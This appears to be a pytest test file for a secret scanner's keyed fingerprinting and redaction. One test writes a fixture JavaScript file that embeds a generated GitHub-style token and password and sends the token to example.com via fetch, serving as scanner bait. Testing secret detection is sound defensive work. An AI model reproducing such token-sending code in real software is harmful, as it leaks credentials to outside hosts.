"""Display fingerprints are keyed per user and show no token body (issue 14.5)."""

from __future__ import annotations

import hashlib
import hmac
import multiprocessing
import random
import stat
import string
from pathlib import Path

import pytest

from checks.redact import redact, secret_fingerprint

ALNUM = string.ascii_letters + string.digits


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "data"
    monkeypatch.setenv("STEPGUARD_DATA_DIR", str(folder))
    return folder


def _token(rng: random.Random, prefix: str, n: int) -> str:
    return prefix + "".join(rng.choice(ALNUM) for _ in range(n))


def test_fingerprint_is_keyed_by_a_private_per_user_key(data_dir: Path) -> None:
    password = "Summer2026!x"  # a human-chosen password: the unkeyed hash confirms it offline
    fp = secret_fingerprint(password)
    unkeyed = hashlib.sha256(password.encode()).hexdigest()[:12]
    assert fp != unkeyed
    key_file = data_dir / "fingerprint.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    key = bytes.fromhex(key_file.read_text().strip())
    assert len(key) == 32
    assert fp == hmac.new(key, password.encode(), hashlib.sha256).hexdigest()[:12]
    assert [p.name for p in data_dir.iterdir()] == ["fingerprint.key"], "no temp file left"


def test_fingerprint_is_stable_per_user_and_differs_between_users(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STEPGUARD_DATA_DIR", str(tmp_path / "alice"))
    first = secret_fingerprint("correct horse battery")
    assert secret_fingerprint("correct horse battery") == first
    monkeypatch.setenv("STEPGUARD_DATA_DIR", str(tmp_path / "bob"))
    assert secret_fingerprint("correct horse battery") != first
    monkeypatch.setenv("STEPGUARD_DATA_DIR", str(tmp_path / "alice"))
    assert secret_fingerprint("correct horse battery") == first


def _fingerprint_in_child(folder: str, queue: multiprocessing.Queue) -> None:
    import os

    os.environ["STEPGUARD_DATA_DIR"] = folder
    queue.put(secret_fingerprint("same value"))


def test_processes_racing_to_make_the_key_agree(tmp_path: Path) -> None:
    ctx = multiprocessing.get_context("spawn")
    queue: multiprocessing.Queue = ctx.Queue()
    procs = [
        ctx.Process(target=_fingerprint_in_child, args=(str(tmp_path / "d"), queue))
        for _ in range(4)
    ]
    for p in procs:
        p.start()
    for p in procs:
        p.join(60)
    (fp,) = {queue.get(timeout=5) for _ in procs}
    assert fp != hashlib.sha256(b"same value").hexdigest()[:12], "keyed, not a bare hash"
    assert list((tmp_path / "d").iterdir()) == [tmp_path / "d" / "fingerprint.key"]


def test_redaction_shows_only_the_public_prefix(data_dir: Path) -> None:
    rng = random.Random(5)
    github = _token(rng, "gh" + "p_", 36)
    stripe = _token(rng, "sk" + "_live_", 40)
    slack = "xox" + "b-" + "1234567890-12345678901-" + _token(rng, "", 24)
    generic = _token(rng, "", 8) + "_" + _token(rng, "", 16)
    assert redact(github).startswith("ghp_…(40 chars, fp ")
    assert redact(stripe).startswith("sk_live_…(48 chars, fp ")
    assert redact(slack).startswith("xoxb-…(")
    # No character of a generic secret, not even one that looks like a prefix.
    assert redact(generic).startswith("…(25 chars, fp ")
    assert redact("hunter2hunter2").startswith("…(14 chars, fp ")


def test_baseline_written_under_one_key_matches_under_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """CI runners start with a fresh key: finding fingerprints must not depend on it."""
    import json

    from tui.cli import main

    rng = random.Random(9)
    token = _token(rng, "gh" + "p_", 36)
    password = _token(rng, "", 10) + "#" + _token(rng, "", 9)
    root = tmp_path / "repo"
    root.mkdir()
    (root / "send.mjs").write_text(
        f'const gh = "{token}";\nconst password = "{password}";\n'
        f'export default {{ async run() {{ return fetch("http://example.com", {{ gh }}); }} }};\n',
        encoding="utf-8",
    )
    baseline = tmp_path / "baseline.json"
    ids = []
    for who in ("laptop", "ci-runner"):
        monkeypatch.setenv("STEPGUARD_DATA_DIR", str(tmp_path / who))
        main(["scan", str(root), "--format", "json", "--fail-on", "never"])
        doc = json.loads(capsys.readouterr().out)
        ids.append({f["extra"]["secret_id"] for f in doc["findings"] if "secret_id" in f["extra"]})
        if who == "laptop":
            assert main(["scan", str(root), "--write-baseline", str(baseline)]) == 0
        else:
            assert main(["scan", str(root), "--baseline", str(baseline), "--fail-on", "low"]) == 0
    assert len(ids[0]) == 2 and ids[0].isdisjoint(ids[1]), "secret ids are keyed per user"
